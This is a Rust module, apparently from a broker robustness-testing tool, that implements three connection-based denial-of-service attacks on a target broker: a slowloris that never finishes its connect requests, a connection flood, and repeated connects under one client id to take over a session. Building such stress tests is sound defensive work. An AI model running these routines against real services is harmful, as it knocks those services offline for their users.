//! Attacks by connections: many, slow, or in each other's way.

use std::{collections::VecDeque, io};

use crate::{
    Scene,
    peer::{Peer, connect},
};

const HELD: usize = 500;
/// How many connections that came lately are kept open.
const KEPT: usize = 100;

/// All stay for as long as the broker lets them, and are replaced then.
pub(super) fn slowloris(scene: &Scene<'_>) -> io::Result<()> {
    let request = connect("slow");
    let begin = || Peer::open(scene.target.tcp).map(|peer| (peer, 0));
    let mut slow = Vec::new();
    for number in scene.pace(HELD as u32) {
        match slow.get_mut(number % HELD) {
            None => slow.push(begin()?),
            // Its last byte never comes.
            Some((peer, sent)) => match request.get(*sent..=*sent).filter(|_| *sent + 1 < request.len()) {
                Some(byte) if peer.send(byte).is_ok() => *sent += 1,
                _ => {
                    // Only a read tells that the broker has closed: a byte on a closed connection is an error the next time.
                    *sent = 0;
                    *peer = Peer::open(scene.target.tcp)?;
                }
            },
        }
    }
    Ok(())
}

pub(super) fn flood(scene: &Scene<'_>) -> io::Result<()> {
    let mut kept = VecDeque::new();
    for number in scene.pace(500) {
        let mut peer = Peer::open(scene.target.tcp)?;
        let _ = peer.send(&connect(&format!("flood-{number}")));
        keep(&mut kept, peer, KEPT);
    }
    Ok(())
}

pub(super) fn take_over(scene: &Scene<'_>) -> io::Result<()> {
    let mut kept = VecDeque::new();
    for _ in scene.pace(300) {
        let mut peer = Peer::open(scene.target.tcp)?;
        let _ = peer.send(&connect("the one and only"));
        keep(&mut kept, peer, 2);
    }
    Ok(())
}

/// Lets the oldest go.
pub(super) fn keep(kept: &mut VecDeque<Peer>, peer: Peer, most: usize) {
    kept.push_back(peer);
    if kept.len() > most {
        kept.pop_front();
    }
}
